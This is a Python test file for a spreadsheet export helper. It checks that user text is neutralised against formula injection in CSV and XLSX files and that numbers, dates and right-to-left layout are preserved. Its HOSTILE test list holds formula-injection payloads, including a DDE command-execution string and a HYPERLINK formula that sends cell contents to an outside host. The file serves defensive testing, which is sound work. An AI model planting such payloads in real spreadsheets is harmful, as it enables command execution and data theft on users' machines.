"""Nothing that anybody typed acts in a spreadsheet, and no number is changed (B8)."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from shelter.shared.spreadsheets import Table, as_csv, as_xlsx, inert

HOSTILE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "\ntext",
    " =1+1",
    "\u00a0=1+1",
    "\u200e=1+1",
    "\ufeff=1+1",
    "\u202b\u2067=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫x",
    "−1",
    "|calc",
    "%0A=1",
    '=HYPERLINK("http://example.org?x="&A1,"x")',
    '=IMPORTXML(CONCAT("http://"),"//a")',
    "+97455123456",
]
HARMLESS = ["", "نور الهدى", "C7-K24", "a=b", "1+1", "mother-in-law", "a\nb", "‏مريم", "'quoted'"]
NUMBERS = [0, -5, 12, 3.5, -0.25, 1_000_000, date(2026, 11, 22)]


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content):
    return load_workbook(io.BytesIO(content)).active


class TestInert:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_a_text_that_may_act_does_not_in_csv(self, text):
        [[_head], [cell]] = read_csv(as_csv(Table("t", ["c"], [[text]])))

        assert cell.startswith("'")

    @pytest.mark.parametrize("text", HOSTILE)
    def test_a_text_that_may_act_does_not_in_a_workbook(self, text):
        cell = read_xlsx(as_xlsx(Table("t", ["c"], [[text]]), rtl=True))["A2"]

        assert cell.value.startswith("'")
        assert cell.data_type == "s"

    @pytest.mark.parametrize("text", HOSTILE)
    def test_nor_in_the_head(self, text):
        table = Table("t", [text], [])

        assert read_csv(as_csv(table))[0][0].startswith("'")
        assert read_xlsx(as_xlsx(table, rtl=False))["A1"].data_type == "s"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_other_texts_stay_as_they_are(self, text):
        assert inert(text) == text

    @pytest.mark.parametrize("number", NUMBERS)
    def test_numbers_and_dates_stay_numbers_and_dates(self, number):
        table = Table("t", ["c"], [[number]])

        assert inert(number) is number
        found = read_xlsx(as_xlsx(table, rtl=False))["A2"].value
        assert (found.date() if isinstance(number, date) else found) == number
        assert read_csv(as_csv(table))[1] == [str(number)]


class TestFiles:
    def test_a_csv_keeps_every_text_in_quotes(self):
        content = as_csv(Table("t", ["الشهر", "b"], [["x;y", 3], ["a,b", None]])).decode()

        assert content.splitlines()[1:] == ['"x;y",3', '"a,b",""']

    @pytest.mark.parametrize("rtl", [True, False])
    def test_a_sheet_reads_in_the_direction_of_its_words(self, rtl):
        sheet = read_xlsx(as_xlsx(Table("أشغال", ["الشهر"], [["x"]]), rtl=rtl))

        assert bool(sheet.sheet_view.rightToLeft) is rtl
        assert sheet["A1"].value == "الشهر"

    def test_a_workbook_names_no_author(self):
        book = load_workbook(io.BytesIO(as_xlsx(Table("t", ["c"], []), rtl=True)))

        assert not book.properties.creator
        assert not book.properties.lastModifiedBy
